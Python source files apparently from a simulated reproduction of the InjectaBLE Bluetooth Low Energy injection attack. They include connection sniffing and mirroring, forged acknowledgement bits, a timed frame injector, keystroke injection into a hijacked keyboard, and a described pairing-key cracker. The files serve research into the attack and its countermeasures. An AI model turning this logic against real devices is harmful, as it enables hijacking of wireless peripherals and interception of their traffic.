            raise AttackError("keyboard is not live (hijack not complete)")
        fake = self.result.hijack.fake_slave
        assert fake is not None and self.report_char is not None
        sent = 0
        for char in text:
            down, up = encode_keystroke(char)
            for report in (down, up):
                fake.queue_att(HandleValueNtf(
                    self.report_char.value_handle, report).to_bytes())
                sent += 1
        self.result.keystrokes_sent += sent
        return sent
