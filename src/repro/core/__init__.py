"""InjectaBLE: sniffing, injection, success heuristic and attack scenarios.

This package is the paper's primary contribution:

* :mod:`repro.core.state` — the attacker's mirror of a live connection;
* :mod:`repro.core.sniffer` — passive synchronisation (new connections via
  CONNECT_REQ capture, established ones via AA/CRCInit/hop recovery);
* :mod:`repro.core.heuristic` — the success-detection rule (paper eq. 7);
* :mod:`repro.core.injection` — the race-winning injector (paper §V);
* :mod:`repro.core.attacker` — one façade wiring radio, sniffer, injector;
* :mod:`repro.core.scenarios` — scenarios A-D (paper §VI);
* :mod:`repro.core.baselines` — BTLEJack / GATTacker / BTLEJuice baselines.
"""

from repro.core.attacker import Attacker
from repro.core.cracker import PairingSniffer, SessionCracker, crack_tk
from repro.core.roles import FakeMaster, FakeSlave
from repro.core.heuristic import HeuristicInputs, HeuristicVerdict, evaluate_heuristic
from repro.core.injection import InjectionConfig, InjectionOutcome, InjectionReport, Injector
from repro.core.sniffer import ConnectionSniffer
from repro.core.state import SniffedConnection

__all__ = [
    "Attacker",
    "FakeMaster",
    "FakeSlave",
    "ConnectionSniffer",
    "HeuristicInputs",
    "HeuristicVerdict",
    "InjectionConfig",
    "InjectionOutcome",
    "InjectionReport",
    "Injector",
    "PairingSniffer",
    "SessionCracker",
    "SniffedConnection",
    "crack_tk",
]
