"""The attacker's mirror of a victim connection.

A :class:`SniffedConnection` tracks everything the attacker can learn
passively: the CONNECT_REQ parameters (or their recovered equivalents),
the channel-hopping state, observed anchor points in the attacker's own
timebase, and the last Slave SN/NESN bits (needed by paper eq. 6 to forge
consistent acknowledgement bits).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.errors import SnifferError
from repro.ll.connection import ConnectionParams, make_channel_selector
from repro.ll.csa2 import Csa2
from repro.ll.connection import phy_mode_from_mask
from repro.ll.pdu.control import ChannelMapInd, ConnectionUpdateInd, PhyUpdateInd
from repro.phy.modulation import PhyMode
from repro.ll.timing import WORST_CASE_SLAVE_SCA_PPM, window_widening_us
from repro.utils.units import SLOT_US


@dataclass
class ObservedBits:
    """The flow-control bits of the last frame seen from one device."""

    sn: int = 0
    nesn: int = 0
    seen: bool = False


class SniffedConnection:
    """Attacker-side live model of a connection.

    Args:
        params: connection parameters, from CONNECT_REQ capture or from
            parameter recovery on an established connection.

    The channel selector mirrors the victims'; :meth:`advance_event` must
    be called exactly once per connection event, whether or not the
    attacker heard anything during it.
    """

    def __init__(self, params: ConnectionParams):
        self.params = params
        self.selector = make_channel_selector(params)
        # Hoisted out of advance_event: the selector kind never changes.
        self._selector_is_csa2 = isinstance(self.selector, Csa2)
        self.event_count = 0
        self.current_channel: Optional[int] = None
        #: Attacker-timebase time of the last observed anchor (true µs).
        self.last_anchor_us: Optional[float] = None
        #: Events elapsed since the last observed anchor.
        self.events_since_anchor = 0
        self.master_bits = ObservedBits()
        self.slave_bits = ObservedBits()
        self._pending_update: Optional[ConnectionUpdateInd] = None
        self._pending_channel_map: Optional[ChannelMapInd] = None
        self._pending_phy: Optional[PhyUpdateInd] = None
        #: Current PHY of the connection (PHY updates are instant-based).
        self.phy: PhyMode = PhyMode.LE_1M
        #: Victim addresses, when the CONNECT_REQ was captured.
        self.master_address: Optional[object] = None
        self.slave_address: Optional[object] = None
        self.alive = True

    # ------------------------------------------------------------------
    # Hopping
    # ------------------------------------------------------------------

    def advance_event(self) -> int:
        """Move to the next connection event; returns its channel.

        Applies any pending channel-map or connection update whose instant
        equals the new event counter — keeping the attacker synchronised
        through procedures it observed (or injected itself, Scenario C/D).
        """
        self.event_count = (self.event_count + 1) & 0xFFFF
        self.events_since_anchor += 1
        if (self._pending_channel_map is not None
                and self._pending_channel_map.instant == self.event_count):
            self.params = self.params.with_channel_map(
                self._pending_channel_map.channel_map
            )
            self.selector.set_channel_map(self._pending_channel_map.channel_map)
            self._pending_channel_map = None
        if (self._pending_phy is not None
                and self._pending_phy.instant == self.event_count):
            self.phy = phy_mode_from_mask(self._pending_phy.m_to_s_phy)
            self._pending_phy = None
        update_due = None
        if (self._pending_update is not None
                and self._pending_update.instant == self.event_count):
            update_due = self._pending_update
            self._pending_update = None
        if self._selector_is_csa2:
            self.current_channel = self.selector.channel_for_event(self.event_count)
        else:
            self.current_channel = self.selector.next_channel()
        if update_due is not None:
            # Predicted anchor re-bases at the update transmit window, as
            # the Slave's does (paper Fig. 2).
            predicted = self.predicted_anchor_us()
            self.params = self.params.updated(update_due)
            self.last_anchor_us = (
                predicted + SLOT_US + update_due.win_offset * SLOT_US
            )
            self.events_since_anchor = 0
        return self.current_channel

    # ------------------------------------------------------------------
    # Timing
    # ------------------------------------------------------------------

    def note_anchor(self, time_us: float) -> None:
        """Record an observed anchor (start of a Master-role frame)."""
        self.last_anchor_us = time_us
        self.events_since_anchor = 0

    def predicted_anchor_us(self) -> float:
        """Predicted anchor of the *current* event, attacker timebase."""
        if self.last_anchor_us is None:
            raise SnifferError("no anchor observed yet")
        return (self.last_anchor_us
                + self.events_since_anchor * self.params.interval_us)

    def fast_forward(self, now_us: float) -> int:
        """Advance the mirrored event counter across an idle period.

        After the attacker's radio sat idle, the number of elapsed
        connection events is recovered from wall-clock time — clock drift
        over even a minute is far below half an interval, so the count is
        exact.  Returns the number of events skipped; the caller should
        passively resynchronise before relying on fine timing (the anchor
        prediction error grows with the drift budget over the gap).
        """
        if self.last_anchor_us is None:
            raise SnifferError("cannot fast-forward without an anchor")
        skipped = 0
        while self.predicted_anchor_us() < now_us:
            self.advance_event()
            skipped += 1
        return skipped

    def estimated_widening_us(
        self, slave_sca_ppm: float = WORST_CASE_SLAVE_SCA_PPM
    ) -> float:
        """The attacker's window-widening estimate (paper §V-C).

        Uses the Master SCA from CONNECT_REQ (or LL_CLOCK_ACCURACY traffic)
        and the worst-case 20 ppm assumption for the Slave.
        """
        if self.last_anchor_us is None:
            raise SnifferError("no anchor observed yet")
        interval = self.predicted_anchor_us() - self.last_anchor_us
        if interval <= 0:
            interval = self.params.interval_us
        return window_widening_us(
            self.params.master_sca_ppm, slave_sca_ppm, interval
        )

    # ------------------------------------------------------------------
    # Observed control procedures
    # ------------------------------------------------------------------

    def instant_in_future_for(self, instant: int) -> bool:
        """Whether ``instant`` is ahead of the mirrored event counter."""
        return 0 < ((instant - self.event_count) & 0xFFFF) < 32767

    def observe_update(self, update: ConnectionUpdateInd) -> None:
        """Track a CONNECTION_UPDATE seen on (or injected into) the link."""
        self._pending_update = update

    def observe_channel_map(self, update: ChannelMapInd) -> None:
        """Track a CHANNEL_MAP update seen on (or injected into) the link."""
        self._pending_channel_map = update

    def observe_phy_update(self, update: PhyUpdateInd) -> None:
        """Track a PHY update seen on (or injected into) the link."""
        self._pending_phy = update

    # ------------------------------------------------------------------
    # Forged-bit arithmetic (paper eq. 6)
    # ------------------------------------------------------------------

    def clone(self) -> "SniffedConnection":
        """Independent copy sharing no state, *without* pending procedures.

        Scenario D forks the attacker's model at the update instant: the
        clone keeps following the legitimate Master's old schedule while
        the original applies the forged update and follows the Slave.
        """
        other = SniffedConnection(self.params)
        if isinstance(self.selector, Csa2):
            other.selector = Csa2(self.params.access_address,
                                  self.params.channel_map)
        else:
            other.selector = self.selector.clone()
        other.event_count = self.event_count
        other.current_channel = self.current_channel
        other.last_anchor_us = self.last_anchor_us
        other.events_since_anchor = self.events_since_anchor
        other.phy = self.phy
        other.master_bits = ObservedBits(self.master_bits.sn,
                                         self.master_bits.nesn,
                                         self.master_bits.seen)
        other.slave_bits = ObservedBits(self.slave_bits.sn,
                                        self.slave_bits.nesn,
                                        self.slave_bits.seen)
        return other

    def forged_bits(self) -> tuple[int, int]:
        """(SN_a, NESN_a) for an injected Master-role frame.

        ``SN_a = NESN_s`` (so the Slave accepts the frame as new data) and
        ``NESN_a = (SN_s + 1) mod 2`` (so the Slave's last frame reads as
        acknowledged).  Requires having observed a Slave frame.
        """
        if not self.slave_bits.seen:
            raise SnifferError("no Slave frame observed yet (need SN_s/NESN_s)")
        sn_a = self.slave_bits.nesn
        nesn_a = (self.slave_bits.sn + 1) % 2
        return sn_a, nesn_a

    def __repr__(self) -> str:
        return (
            f"SniffedConnection(aa={self.params.access_address:#010x}, "
            f"event={self.event_count}, ch={self.current_channel}, "
            f"interval={self.params.interval})"
        )
