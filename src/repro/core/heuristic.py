"""Injection success detection (paper §V-D, formula 7).

The attacker cannot observe the legitimate Master frame (it is transmitting
at that moment) nor the CRC outcome at the Slave.  Both are inferred from
the Slave's response:

* **timing**: if the injected frame became the new anchor, the Slave's
  response starts ``T_IFS`` after the *injected* frame's end, within an
  empirically measured ±5 µs window;
* **acknowledgement**: if the CRC verified at the Slave, its response
  carries ``NESN' = (SN_a + 1) mod 2`` (our data was accepted) and
  ``SN' = NESN_a`` (it transmits the stream position we acknowledged).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.utils.units import T_IFS_US

#: Half-width of the empirical response-timing window (paper: ±5 µs).
TIMING_TOLERANCE_US = 5.0


@dataclass(frozen=True)
class HeuristicInputs:
    """Observations needed to evaluate formula 7.

    Attributes:
        t_a: start time of the injected frame's transmission (µs).
        d_a: duration of the injected frame (µs).
        sn_a / nesn_a: bits stamped on the injected frame (paper eq. 6).
        t_s: start time of the Slave's response, ``None`` if no response
            was observed.
        sn_s / nesn_s: bits of the Slave's response, ``None`` when the
            response was absent or undecodable.
    """

    t_a: float
    d_a: float
    sn_a: int
    nesn_a: int
    t_s: Optional[float] = None
    sn_s: Optional[int] = None
    nesn_s: Optional[int] = None


@dataclass(frozen=True)
class HeuristicVerdict:
    """Decomposed verdict of the success heuristic.

    Attributes:
        success: overall formula-7 result.
        timing_ok: the Slave re-anchored on the injected frame.
        ack_ok: the Slave's bits acknowledge the injected frame.
        response_seen: a Slave response was observed at all.
    """

    success: bool
    timing_ok: bool
    ack_ok: bool
    response_seen: bool


def evaluate_heuristic(obs: HeuristicInputs,
                       tolerance_us: float = TIMING_TOLERANCE_US
                       ) -> HeuristicVerdict:
    """Evaluate paper formula 7 on one injection attempt's observations."""
    if obs.t_s is None:
        return HeuristicVerdict(False, False, False, False)
    expected = obs.t_a + obs.d_a + T_IFS_US
    timing_ok = expected - tolerance_us < obs.t_s < expected + tolerance_us
    if obs.sn_s is None or obs.nesn_s is None:
        return HeuristicVerdict(False, timing_ok, False, True)
    ack_ok = (
        ((obs.sn_a + 1) % 2 == obs.nesn_s)
        and (obs.nesn_a == obs.sn_s)
    )
    return HeuristicVerdict(timing_ok and ack_ok, timing_ok, ack_ok, True)
