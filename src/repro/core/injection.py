"""The InjectaBLE injector (paper §V).

Given a synchronised :class:`~repro.core.state.SniffedConnection`, the
injector races the legitimate Master at each connection event:

1. estimate the Slave's window widening ``w`` with the worst-case 20 ppm
   Slave SCA assumption (paper eq. 5);
2. transmit the forged frame at ``t_pred − w + guard`` — as early in the
   receive window as possible — with SN/NESN per paper eq. 6;
3. listen for the Slave's response and evaluate the success heuristic
   (paper eq. 7);
4. on failure, spend one event passively re-synchronising (fresh anchor
   and Slave bits), then try again.

The attempt counter reported is the number of *transmissions* performed
before a success, the quantity Figure 9 plots.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.heuristic import HeuristicInputs, HeuristicVerdict, evaluate_heuristic
from repro.core.state import SniffedConnection
from repro.errors import InjectionError, SnifferError
from repro.ll.pdu.control import (
    ChannelMapInd,
    ConnectionUpdateInd,
    PhyUpdateInd,
    decode_control_pdu,
)
from repro.ll.pdu.data import LLID, DataPdu
from repro.ll.pdu.frame import compute_crc, verify_crc
from repro.phy.signal import RadioFrame
from repro.sim.events import Event
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver
from repro.utils.units import T_IFS_US

#: Margin added around resync listening windows, µs.
_RESYNC_MARGIN_US = 300.0
#: How long after the event's expected traffic the resync window stays open.
_RESYNC_TAIL_US = 700.0


@dataclass(frozen=True)
class InjectionConfig:
    """Tunable parameters of the injection strategy.

    Attributes:
        guard_us: offset after the estimated window opening at which the
            injected frame starts (small but positive, so the frame lands
            inside the window even if the estimate is slightly early).
        slave_sca_assumption_ppm: Slave SCA assumed in the widening
            estimate; 20 ppm is the worst case from the attacker's
            perspective (paper §V-C).
        max_attempts: give up after this many transmissions.
        resync_between_attempts: spend one passive event after each failed
            attempt to refresh the anchor and the Slave's SN/NESN.
        response_wait_us: how long after the injected frame's end to wait
            for the Slave's response before declaring the attempt failed.
        max_silent_events: consecutive empty resync events before the
            connection is declared lost.
    """

    guard_us: float = 3.0
    slave_sca_assumption_ppm: float = 20.0
    max_attempts: int = 200
    resync_between_attempts: bool = True
    response_wait_us: float = 700.0
    max_silent_events: int = 12


@dataclass
class AttemptRecord:
    """One injection attempt's observables and verdict."""

    attempt_number: int
    event_count: int
    channel: int
    t_a: float
    d_a: float
    sn_a: int
    nesn_a: int
    t_s: Optional[float] = None
    verdict: Optional[HeuristicVerdict] = None
    #: L2CAP payload of the Slave's response frame, when decodable.
    response_payload: Optional[bytes] = None


class InjectionOutcome(enum.Enum):
    """Terminal states of an injection session."""

    SUCCESS = "success"
    MAX_ATTEMPTS = "max-attempts"
    CONNECTION_LOST = "connection-lost"


@dataclass
class InjectionReport:
    """Result of an injection session.

    Attributes:
        outcome: terminal state.
        attempts: number of frames transmitted.
        records: per-attempt observations.
        duration_us: wall-clock (simulated) time the session took.
    """

    outcome: InjectionOutcome
    attempts: int
    records: list[AttemptRecord] = field(default_factory=list)
    duration_us: float = 0.0

    @property
    def success(self) -> bool:
        """Whether the injection eventually succeeded."""
        return self.outcome is InjectionOutcome.SUCCESS


class _Phase(enum.Enum):
    IDLE = "idle"
    RESYNC = "resync"
    ATTEMPT = "attempt"


class Injector:
    """Drives injection attempts over the attacker's transceiver.

    Args:
        sim: owning simulator.
        radio: the attacker's transceiver (exclusive while injecting).
        config: strategy parameters.
    """

    def __init__(self, sim: Simulator, radio: Transceiver,
                 config: Optional[InjectionConfig] = None):
        self.sim = sim
        self.radio = radio
        self.config = config if config is not None else InjectionConfig()
        metrics = sim.metrics
        self._metrics = metrics
        self._m_attempts = metrics.counter("inject.attempts")
        self._m_success = metrics.counter("inject.success")
        self._m_failure = metrics.counter("inject.failure")
        self._m_attempts_to_success = metrics.histogram(
            "inject.attempts_to_success",
            buckets=(1, 2, 3, 5, 8, 13, 21, 34, 55, 100))
        self.conn: Optional[SniffedConnection] = None
        self._events: list[Event] = []
        self._phase = _Phase.IDLE
        self._llid = LLID.DATA_START
        self._payload = b""
        self._on_done: Optional[Callable[[InjectionReport], None]] = None
        self._report: Optional[InjectionReport] = None
        self._start_time = 0.0
        self._attempt: Optional[AttemptRecord] = None
        self._resync_anchor_seen = False
        self._silent_events = 0
        self._response_timeout: Optional[Event] = None

    # ------------------------------------------------------------------
    # Session control
    # ------------------------------------------------------------------

    def start(
        self,
        conn: SniffedConnection,
        payload: bytes,
        llid: LLID = LLID.DATA_START,
        on_done: Optional[Callable[[InjectionReport], None]] = None,
    ) -> None:
        """Begin injecting ``payload`` into ``conn``.

        The session runs asynchronously inside the simulator; ``on_done``
        fires with the :class:`InjectionReport` when it terminates.
        """
        if self._phase is not _Phase.IDLE:
            raise InjectionError("injector is already running")
        if conn.last_anchor_us is None:
            raise InjectionError("connection has no observed anchor yet")
        self.conn = conn
        self._llid = llid
        self._payload = payload
        self._on_done = on_done
        self._report = InjectionReport(InjectionOutcome.MAX_ATTEMPTS, 0)
        self._start_time = self.sim.now
        self._silent_events = 0
        self.radio.on_frame = self._on_frame
        # Attempt straight away if we already know the Slave's bits;
        # otherwise resync first (paper §V-C: the attacker must have
        # observed a Slave frame in the preceding event).
        if conn.slave_bits.seen:
            self._next_event(_Phase.ATTEMPT)
        else:
            self._next_event(_Phase.RESYNC)

    def cancel(self) -> None:
        """Abort the session without reporting."""
        for event in self._events:
            event.cancel()
        self._events.clear()
        self._phase = _Phase.IDLE
        self.radio.stop_listening()

    def _schedule(self, time_us: float, handler, label: str) -> Event:
        event = self.sim.schedule_at(max(time_us, self.sim.now), handler, label)
        self._events.append(event)
        if len(self._events) > 64:
            # Amortised compaction: fired and cancelled handles are
            # inert (cancel() on them is a no-op), so dropping them
            # lazily keeps this O(1) per call instead of O(n).
            self._events = [e for e in self._events if e.pending]
        return event

    # ------------------------------------------------------------------
    # Event loop
    # ------------------------------------------------------------------

    def _next_event(self, phase: _Phase) -> None:
        conn = self.conn
        assert conn is not None and self._report is not None
        if not conn.alive:
            self._finish(InjectionOutcome.CONNECTION_LOST)
            return
        channel = conn.advance_event()
        try:
            predicted = conn.predicted_anchor_us()
        except SnifferError:
            self._finish(InjectionOutcome.CONNECTION_LOST)
            return
        if phase is _Phase.ATTEMPT and not conn.slave_bits.seen:
            phase = _Phase.RESYNC
        if (phase is _Phase.ATTEMPT
                and self._report.attempts >= self.config.max_attempts):
            self._finish(InjectionOutcome.MAX_ATTEMPTS)
            return
        self._phase = phase
        if phase is _Phase.ATTEMPT:
            w_est = conn.estimated_widening_us(
                self.config.slave_sca_assumption_ppm
            )
            t_tx = predicted - w_est + self.config.guard_us
            self._schedule(t_tx, lambda ch=channel: self._transmit(ch),
                           "inject-tx")
        else:
            w_full = conn.estimated_widening_us(50.0) + _RESYNC_MARGIN_US
            self._resync_anchor_seen = False
            self._schedule(predicted - w_full,
                           lambda ch=channel: self._tune(ch),
                           "inject-resync-open")
            self._schedule(predicted + w_full + _RESYNC_TAIL_US,
                           self._resync_closed, "inject-resync-close")

    # ------------------------------------------------------------------
    # Attempt phase
    # ------------------------------------------------------------------

    def _transmit(self, channel: int) -> None:
        conn = self.conn
        assert conn is not None and self._report is not None
        if self.radio.is_transmitting(self.sim.now):
            # Pathological overlap with our own previous traffic; skip.
            self._next_event(_Phase.RESYNC)
            return
        sn_a, nesn_a = conn.forged_bits()
        pdu = DataPdu.make(self._llid, self._payload, sn=sn_a, nesn=nesn_a)
        pdu_bytes = pdu.to_bytes()
        crc = compute_crc(pdu_bytes, conn.params.crc_init)
        self.radio.stop_listening()
        self.radio.rx_phy = conn.phy
        frame = self.radio.transmit(conn.params.access_address, pdu_bytes,
                                    crc, channel, phy=conn.phy)
        self._report.attempts += 1
        if self._metrics.enabled:
            self._m_attempts.inc()
        self._attempt = AttemptRecord(
            attempt_number=self._report.attempts,
            event_count=conn.event_count,
            channel=channel,
            t_a=frame.start_us,
            d_a=frame.duration_us,
            sn_a=sn_a,
            nesn_a=nesn_a,
        )
        self._report.records.append(self._attempt)
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name,
                                  "injection-attempt",
                                  attempt=self._report.attempts,
                                  event_count=conn.event_count,
                                  channel=channel, t_a=frame.start_us)
        self._schedule(frame.end_us + 0.5,
                       lambda ch=channel: self._tune(ch),
                       "inject-rx-on")
        self._response_timeout = self._schedule(
            frame.end_us + T_IFS_US + self.config.response_wait_us,
            self._attempt_timeout, "inject-response-timeout",
        )

    def _tune(self, channel: int) -> None:
        assert self.conn is not None
        self.radio.rx_phy = self.conn.phy
        self.radio.listen(channel)

    def _attempt_timeout(self) -> None:
        if self._phase is not _Phase.ATTEMPT or self._attempt is None:
            return
        self.radio.stop_listening()
        attempt = self._attempt
        attempt.verdict = HeuristicVerdict(False, False, False, False)
        self._attempt = None
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name,
                                  "injection-no-response",
                                  attempt=attempt.attempt_number)
        self._after_failed_attempt()

    def _on_attempt_response(self, frame: RadioFrame) -> None:
        conn = self.conn
        attempt = self._attempt
        assert conn is not None and attempt is not None
        if self._response_timeout is not None:
            self._response_timeout.cancel()
        self.radio.stop_listening()
        sn_s: Optional[int] = None
        nesn_s: Optional[int] = None
        if verify_crc(frame, conn.params.crc_init):
            pdu = DataPdu.from_bytes(frame.pdu)
            sn_s, nesn_s = pdu.header.sn, pdu.header.nesn
            conn.slave_bits.sn = sn_s
            conn.slave_bits.nesn = nesn_s
            conn.slave_bits.seen = True
            if len(pdu.payload) > 0 and not pdu.is_control:
                attempt.response_payload = pdu.payload
        obs = HeuristicInputs(
            t_a=attempt.t_a, d_a=attempt.d_a,
            sn_a=attempt.sn_a, nesn_a=attempt.nesn_a,
            t_s=frame.start_us, sn_s=sn_s, nesn_s=nesn_s,
        )
        verdict = evaluate_heuristic(obs)
        attempt.t_s = frame.start_us
        attempt.verdict = verdict
        self._attempt = None
        if verdict.timing_ok:
            # The Slave re-anchored on our frame: our transmission start is
            # the connection's new anchor point.
            conn.note_anchor(attempt.t_a)
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name,
                                  "injection-verdict",
                                  attempt=attempt.attempt_number,
                                  success=verdict.success,
                                  timing_ok=verdict.timing_ok,
                                  ack_ok=verdict.ack_ok)
        if verdict.success:
            self._finish(InjectionOutcome.SUCCESS)
        else:
            self._after_failed_attempt()

    def _after_failed_attempt(self) -> None:
        next_phase = (_Phase.RESYNC if self.config.resync_between_attempts
                      else _Phase.ATTEMPT)
        self._next_event(next_phase)

    # ------------------------------------------------------------------
    # Resync phase
    # ------------------------------------------------------------------

    def _resync_closed(self) -> None:
        if self._phase is not _Phase.RESYNC:
            return
        self.radio.stop_listening()
        if self._resync_anchor_seen:
            self._silent_events = 0
            self._next_event(_Phase.ATTEMPT)
        else:
            self._silent_events += 1
            if self._silent_events >= self.config.max_silent_events:
                self._finish(InjectionOutcome.CONNECTION_LOST)
            else:
                self._next_event(_Phase.RESYNC)

    def _on_resync_frame(self, frame: RadioFrame) -> None:
        conn = self.conn
        assert conn is not None
        if not self._resync_anchor_seen:
            self._resync_anchor_seen = True
            conn.note_anchor(frame.start_us)
            if verify_crc(frame, conn.params.crc_init):
                pdu = DataPdu.from_bytes(frame.pdu)
                conn.master_bits.sn = pdu.header.sn
                conn.master_bits.nesn = pdu.header.nesn
                conn.master_bits.seen = True
                self._observe_control(pdu)
        else:
            if verify_crc(frame, conn.params.crc_init):
                pdu = DataPdu.from_bytes(frame.pdu)
                conn.slave_bits.sn = pdu.header.sn
                conn.slave_bits.nesn = pdu.header.nesn
                conn.slave_bits.seen = True

    def _observe_control(self, pdu: DataPdu) -> None:
        conn = self.conn
        assert conn is not None
        if not pdu.is_control or len(pdu.payload) == 0:
            return
        try:
            control = decode_control_pdu(pdu.payload)
        except Exception:
            return
        if isinstance(control, ConnectionUpdateInd):
            conn.observe_update(control)
        elif isinstance(control, ChannelMapInd):
            conn.observe_channel_map(control)
        elif isinstance(control, PhyUpdateInd):
            conn.observe_phy_update(control)

    # ------------------------------------------------------------------
    # Shared reception dispatch
    # ------------------------------------------------------------------

    def _on_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        conn = self.conn
        if conn is None:
            return
        if frame.access_address != conn.params.access_address:
            return
        if self._phase is _Phase.ATTEMPT and self._attempt is not None:
            self._on_attempt_response(frame)
        elif self._phase is _Phase.RESYNC:
            self._on_resync_frame(frame)

    # ------------------------------------------------------------------
    # Termination
    # ------------------------------------------------------------------

    def _finish(self, outcome: InjectionOutcome) -> None:
        assert self._report is not None
        self._report.outcome = outcome
        self._report.duration_us = self.sim.now - self._start_time
        self._phase = _Phase.IDLE
        for event in self._events:
            event.cancel()
        self._events.clear()
        report = self._report
        if self._metrics.enabled:
            if outcome is InjectionOutcome.SUCCESS:
                self._m_success.inc()
                self._m_attempts_to_success.observe(report.attempts)
            else:
                self._m_failure.inc()
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name,
                                  "injection-finished",
                                  outcome=outcome.value,
                                  attempts=report.attempts)
        if self._on_done is not None:
            self._on_done(report)
