"""The attacker façade: one radio, a sniffer and an injector.

Mirrors the paper's proof-of-concept dongle (§V-E): a single transceiver
that sniffs until synchronised, then switches into injection mode, checks
the success heuristic, and reports the number of attempts — plus the APIs
the four attack scenarios build on.

The attacker's clock is modelled as an *active* crystal (10 ppm, sub-µs
jitter): injection timing runs with the radio awake, unlike the victims'
sleep clocks.
"""

from __future__ import annotations

from typing import Callable, Optional

from repro.core.injection import InjectionConfig, InjectionReport, Injector
from repro.core.sniffer import ConnectionSniffer, SniffedEvent
from repro.core.state import SniffedConnection
from repro.errors import AttackError
from repro.ll.pdu.control import ControlPdu
from repro.ll.pdu.data import LLID
from repro.sim.clock import SleepClock
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver


class Attacker:
    """A radio attacker within range of a victim connection.

    Args:
        sim: owning simulator.
        medium: shared radio medium; ``name`` must be placed in its
            topology.
        name: attacker device name.
        tx_power_dbm: attacker transmit power.
        injection_config: strategy parameters for the injector.
    """

    def __init__(
        self,
        sim: Simulator,
        medium: Medium,
        name: str = "attacker",
        tx_power_dbm: float = 0.0,
        injection_config: Optional[InjectionConfig] = None,
        use_csa2: bool = False,
    ):
        self.sim = sim
        self.medium = medium
        self.name = name
        self.radio = Transceiver(
            sim, medium, name,
            clock=SleepClock(10.0, rng=sim.streams.get(f"clock-{name}"),
                             jitter_us=0.5),
            tx_power_dbm=tx_power_dbm,
        )
        self.sniffer = ConnectionSniffer(sim, self.radio, use_csa2=use_csa2)
        self.injector = Injector(sim, self.radio, injection_config)
        self._queued_injection: Optional[tuple[bytes, LLID,
                                               Callable[[InjectionReport], None],
                                               int]] = None
        self._events_followed = 0
        self.sniffer.on_event = self._on_sniffed_event
        self._m_sessions = sim.metrics.counter("attacker.inject_sessions")

    # ------------------------------------------------------------------
    # Synchronisation
    # ------------------------------------------------------------------

    def sniff_new_connections(self, adv_channel: int = 37) -> None:
        """Wait for a CONNECT_REQ on an advertising channel."""
        self.sniffer.sniff_new_connections(adv_channel)

    def recover_established(self, probe_channel: int = 0) -> None:
        """Recover an established connection's parameters, then follow it."""
        self.sniffer.recover_established(probe_channel)

    @property
    def connection(self) -> Optional[SniffedConnection]:
        """The connection currently synchronised to, if any."""
        return self.sniffer.connection

    @property
    def synchronized(self) -> bool:
        """Whether the attacker is following a live connection."""
        conn = self.connection
        return conn is not None and conn.alive and conn.last_anchor_us is not None

    # ------------------------------------------------------------------
    # Injection
    # ------------------------------------------------------------------

    def inject(
        self,
        payload: bytes,
        llid: LLID = LLID.DATA_START,
        on_done: Optional[Callable[[InjectionReport], None]] = None,
        after_events: int = 3,
    ) -> None:
        """Inject ``payload`` as soon as the attacker is ready.

        If the sniffer is still following, the injection starts once
        ``after_events`` further events have been observed (guaranteeing a
        fresh anchor and Slave bits, as §V-C requires); if the sniffer has
        already handed over, the injector starts immediately.

        Args:
            payload: raw LL payload (e.g. an L2CAP-framed ATT request, or
                a control PDU's opcode+CtrData with ``llid=LLID.CONTROL``).
            llid: LLID to stamp on the injected data PDU.
            on_done: completion callback receiving the report.
            after_events: events to keep sniffing before the first attempt.
        """
        conn = self.connection
        if conn is None:
            raise AttackError("not synchronised with any connection")
        if self.sim.metrics.enabled:
            self._m_sessions.inc()
        callback = on_done if on_done is not None else (lambda _report: None)
        stale = (
            not self.sniffer.following
            and conn.alive
            and conn.last_anchor_us is not None
            and self.sim.now - conn.last_anchor_us
            > 3 * conn.params.interval_us
        )
        if stale:
            # The radio sat idle: recover the elapsed event count from
            # wall-clock time, then resynchronise passively before racing.
            conn.fast_forward(self.sim.now)
            self.resume_sniffing()
        if self.sniffer.following:
            self._queued_injection = (payload, llid, callback, after_events)
            self._events_followed = 0
        else:
            self.injector.start(conn, payload, llid, callback)

    def inject_control(
        self,
        control: ControlPdu,
        on_done: Optional[Callable[[InjectionReport], None]] = None,
        after_events: int = 3,
    ) -> None:
        """Inject an LL control PDU (terminate, connection update, ...)."""
        self.inject(control.to_payload(), LLID.CONTROL, on_done, after_events)

    def _on_sniffed_event(self, event: SniffedEvent) -> None:
        if self._queued_injection is None:
            return
        payload, llid, callback, after_events = self._queued_injection
        self._events_followed += 1
        conn = self.connection
        if (conn is None or not conn.alive):
            self._queued_injection = None
            return
        if self._events_followed < after_events or not conn.slave_bits.seen:
            return
        if conn.last_anchor_us is None:
            return
        self._queued_injection = None
        self.sniffer.cancel()
        self.injector.start(conn, payload, llid, callback)

    # ------------------------------------------------------------------
    # Post-injection
    # ------------------------------------------------------------------

    def resume_sniffing(self) -> None:
        """Return the radio to the sniffer after an injection session."""
        conn = self.connection
        if conn is None or not conn.alive or conn.last_anchor_us is None:
            raise AttackError("no live connection to resume following")
        self.injector.cancel()
        self.sniffer.following = True
        self.sniffer.paused = False
        self.radio.on_frame = self.sniffer._on_follow_frame
        self.sniffer.schedule_next_event()

    def release_radio(self) -> None:
        """Stop both sniffer and injector (scenario drivers take over)."""
        self.sniffer.cancel()
        self.injector.cancel()
        self.radio.stop_listening()
