"""CRACKLE-style pairing/key cracking (Ryan 2013, paper §II).

The paper's countermeasure analysis (§VIII) recommends enabling the native
encryption — but legacy pairing's temporary key is brute-forceable from a
sniffed exchange: Just Works uses TK = 0 and passkey entry a 6-digit PIN.
This module closes that loop for the reproduction:

1. :class:`PairingSniffer` rides on the connection sniffer's events and
   reassembles the SMP transcript (Pairing Request/Response, confirm
   values, randoms) plus the LL_ENC_REQ/LL_ENC_RSP session material;
2. :func:`crack_tk` brute-forces the TK against the confirm values
   (instantaneous for Just Works);
3. :class:`SessionCracker` derives STK → session key and decrypts captured
   CCM payloads offline.

Everything here is passive: it turns "encryption limits InjectaBLE to
DoS" (§IV) back into full compromise whenever the victims paired with
Just Works in the attacker's presence.
"""

